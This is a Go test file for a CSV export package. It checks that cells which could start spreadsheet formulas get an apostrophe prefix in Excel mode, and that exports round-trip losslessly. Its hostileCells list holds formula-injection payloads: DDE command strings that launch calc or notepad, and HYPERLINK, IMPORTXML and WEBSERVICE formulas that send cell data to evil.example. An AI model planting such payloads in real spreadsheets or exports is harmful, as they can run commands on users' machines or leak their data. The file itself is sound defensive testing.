package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"dixit"

	"golang.org/x/text/unicode/norm"
	"pgregory.net/rapid"
)

// startsFormula is how a careless spreadsheet program looks at a cell.
func startsFormula(cell string) bool {
	if cell != "" && strings.ContainsAny(cell[:1], "\t\r\n\x00") {
		return true
	}
	seen := strings.TrimLeft(norm.NFKC.String(cell), " \t\r\n\v\f\x00\u0085\u2028\u2029\ufeff\u200b\u200e\u202e\"“”„«»`")
	return seen != "" && strings.ContainsAny(seen[:1], "=+-@")
}

// hostileCells are 20 formulas behind 17 beginnings.
func hostileCells() []string {
	formulas := []string{
		"=1+1", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "@SUM(1,1)", `=HYPERLINK("http://evil.example?x="&A1,"click")`,
		"=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://evil.example\")", "+cmd|' /C notepad'!'A1'",
		"-2+3+cmd|' /C calc'!D2", "@A1", "＝1+1", "＋1", "－1", "＠SUM(1)", "=-1", "==1", "=\n1", "-", "\u22121+1",
	}
	beginnings := []string{
		"", " ", "   ", "\t", "\r", "\n", "\r\n", "\x00", "\ufeff", "\u00a0", "\u3000", "\"", "“", "\u200b", "\u202e", " \ufeff\"", "\v\f",
	}
	var out []string
	for _, b := range beginnings {
		for _, f := range formulas {
			out = append(out, b+f)
		}
	}
	return out
}

func TestHostileCells(t *testing.T) {
	cells := hostileCells()
	if len(cells) < 300 {
		t.Fatalf("%d cells", len(cells))
	}
	for _, cell := range cells {
		for _, excel := range []bool{false, true} {
			row := tableRow(t, cell, Options{Excel: excel})
			got := row[11-1]
			want := cell
			if excel {
				want = "'" + cell
			}
			if want = strings.ReplaceAll(want, "\r\n", "\n"); got != want {
				t.Errorf("excel %t: %q became %q", excel, cell, got)
			}
			for i, c := range row {
				if excel && startsFormula(c) {
					t.Errorf("%q: cell %d %q starts a formula", cell, i, c)
				}
			}
		}
	}
}

func TestHarmlessCells(t *testing.T) {
	for _, cell := range []string{
		"", "The bridge is safe", "“The bridge is safe,”", "1,000", "'tis", "a=b", "2024-05-06", "x\n=1", "…", "#1", "\"quoted\"",
	} {
		if got := Guarded(cell); got != cell {
			t.Errorf("%q became %q", cell, got)
		}
	}
}

// TestGuard proves of any cell that it is not changed but for an apostrophe before it, and starts no formula.
func TestGuard(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		cell := rapid.StringOf(rapid.OneOf(rapid.SampledFrom([]rune("=+-@\t\r\n\x00 \"'“\ufeff＝＋－＠\u200ba1,;")), rapid.Rune())).Draw(t, "cell")
		got := Guarded(cell)
		if startsFormula(got) || got != cell && got != "'"+cell {
			t.Fatalf("%q became %q", cell, got)
		}
	})
}

// TestTableIsLossless proves that any cells come back as they were. (Go's reader makes a line feed of a carriage return and a
// line feed; the file has both, as .ci/exports checks.)
func TestTableIsLossless(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		name, words := rapid.String().Draw(t, "name"), rapid.StringN(1, -1, -1).Draw(t, "words")
		row := tableRow(t, words, Options{}, name)
		plain := func(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }
		if row[7-1] != plain(name) || row[11-1] != plain(words) {
			t.Fatalf("%q %q", row[7-1], row[11-1])
		}
	})
}

// tableRow is the row of a statement with this content, by somebody of this name.
func tableRow(t rapid.TB, words string, opt Options, name ...string) []string {
	t.Helper()
	text, err := dixit.NewText(words)
	if err != nil {
		t.Fatal(err)
	}
	doc := &dixit.Document{ID: "d", Source: []byte(words), Text: text}
	doc.Address()
	content, err := text.Fragment(dixit.Span{End: len(words)})
	if err != nil {
		t.Fatal(err)
	}
	s := dixit.Statement{Content: []dixit.Fragment{content}, Kind: dixit.Direct, Act: "state", Speaker: dixit.Speaker{Name: strings.Join(name, "")}}
	var b bytes.Buffer
	w, err := csvForm().New(&b, opt)
	if err == nil {
		err = w.Write(dixit.Record{Doc: doc.Ref(), Statement: s}, doc)
	}
	if err == nil {
		err = w.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	if opt.Excel != bytes.HasPrefix(b.Bytes(), []byte("\ufeff")) {
		t.Errorf("excel %t: %.10q", opt.Excel, b.String())
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b.Bytes(), []byte("\ufeff")))).ReadAll()
	if err != nil || len(rows) != 2 || len(rows[1]) != len(csvColumns()) {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	return rows[1]
}
